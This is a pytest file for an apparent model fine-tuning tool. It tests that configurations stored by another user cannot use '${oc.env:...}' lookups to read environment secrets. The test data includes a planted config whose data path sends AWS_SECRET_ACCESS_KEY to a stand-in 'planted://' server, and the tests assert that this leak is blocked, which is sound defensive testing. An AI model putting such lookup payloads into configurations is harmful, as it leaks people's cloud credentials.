"""Nothing is looked up for a configuration that a stranger has stored; what a user's own files look
up still is.
"""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any, ClassVar

import fsspec
import pytest
from fsspec.implementations.memory import MemoryFileSystem

from llmtune.cli.main import main
from llmtune.config.compose import compose_config
from llmtune.config.keys import is_text, known_keys
from llmtune.config.stored import dump_yaml, load_config, read_key, set_key
from llmtune.errors import ConfigError
from llmtune.storage import layout
from llmtune.storage.hashing import hash_file
from llmtune.storage.manifest import mark_complete, write_manifest
from tests.support import TINY

SECRET = "planted-aws-secret"
LOOKUPS = [
    "${oc.env:AWS_SECRET_ACCESS_KEY}",
    "x${oc.env:AWS_SECRET_ACCESS_KEY,none}y",
    "${oc.${seed}:X}",
    "${seed}",
    r"\${seed}",
]


@pytest.fixture(autouse=True)
def key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)


class Server(MemoryFileSystem):  # type: ignore[misc]
    """A stranger's server, at ``planted://``, and the paths that it was asked for."""

    protocol = "planted"
    asked: ClassVar[list[str]] = []

    @classmethod
    def _strip_protocol(cls, path: Any) -> str:
        cls.asked.append(str(path))
        return str(MemoryFileSystem._strip_protocol(str(path).removeprefix("planted://")))


@pytest.mark.parametrize("text", LOOKUPS)
def test_every_text_of_a_stored_configuration_stands_for_itself(text: str, tmp_path: Path) -> None:
    config = compose_config(["model=tiny"]).config
    keys = sorted(key for key in known_keys() if is_text(key))
    assert len(keys) > 10
    for key in keys:
        set_key(config, key, text)
    config.data.train = [text, {"path": text}]
    config.model.config = {"model_type": text}
    (tmp_path / layout.CONFIG).write_text(dump_yaml(config))
    stored = load_config(tmp_path / layout.CONFIG)
    assert stored == config, "our own files survive the round trip"
    assert {read_key(stored, key) for key in keys} == {text}
    assert SECRET not in dump_yaml(stored)


def test_a_strangers_run_sends_no_key_to_the_server_that_it_names(
    tiny_model: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setattr(Server, "asked", [])
    fsspec.register_implementation("planted", Server, clobber=True)
    checkpoint = tmp_path / "checkpoint"
    shutil.copytree(tiny_model, checkpoint)
    config = compose_config([*TINY, "tuner=full", "precision=fp32"]).config
    config.data.train = "planted://server/${oc.env:AWS_SECRET_ACCESS_KEY}.jsonl"
    (checkpoint / layout.CONFIG).write_text(dump_yaml(config))
    write_manifest(
        checkpoint, {file.name: hash_file(file) for file in checkpoint.iterdir()}, {"step": 1}
    )
    mark_complete(checkpoint)
    assert main(["eval", f"checkpoint={checkpoint}"]) not in (0, 1)
    assert Server.asked, "the server was asked for the rows"
    assert not any(SECRET in path for path in Server.asked)
    assert SECRET not in capsys.readouterr().err


def write_group(folder: Path, text: str) -> Path:
    (folder / "experiment").mkdir(parents=True)
    (folder / "experiment" / "theirs.yaml").write_text(f"# @package _global_\n{text}\n")
    return folder


def test_files_of_ones_own_may_look_things_up(tmp_path: Path) -> None:
    own = write_group(
        tmp_path / "own", "checkpoint:\n  mirror: ftp://me:${oc.env:AWS_SECRET_ACCESS_KEY}@host/x"
    )
    composed = compose_config(["model=tiny", "experiment=theirs"], str(own))
    assert composed.config.checkpoint.mirror == f"ftp://me:{SECRET}@host/x"


@pytest.mark.parametrize(
    "text", ["run_name: ${oc.env:AWS_SECRET_ACCESS_KEY}", "run_name: ${oc.${tracker.kind}:HOME}"]
)
def test_files_of_another_user_may_not(
    text: str, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    theirs = write_group(tmp_path / "theirs", text)
    plain = write_group(tmp_path / "plain", "run_name: r-${seed}")
    request.getfixturevalue("another_user")
    with pytest.raises(ConfigError, match=r"looks things up .* copy it into a folder of your own"):
        compose_config(["model=tiny", "experiment=theirs"], str(theirs))
    assert (
        compose_config(["model=tiny", "experiment=theirs", "seed=7"], str(plain)).config.run_name
        == "r-7"
    )
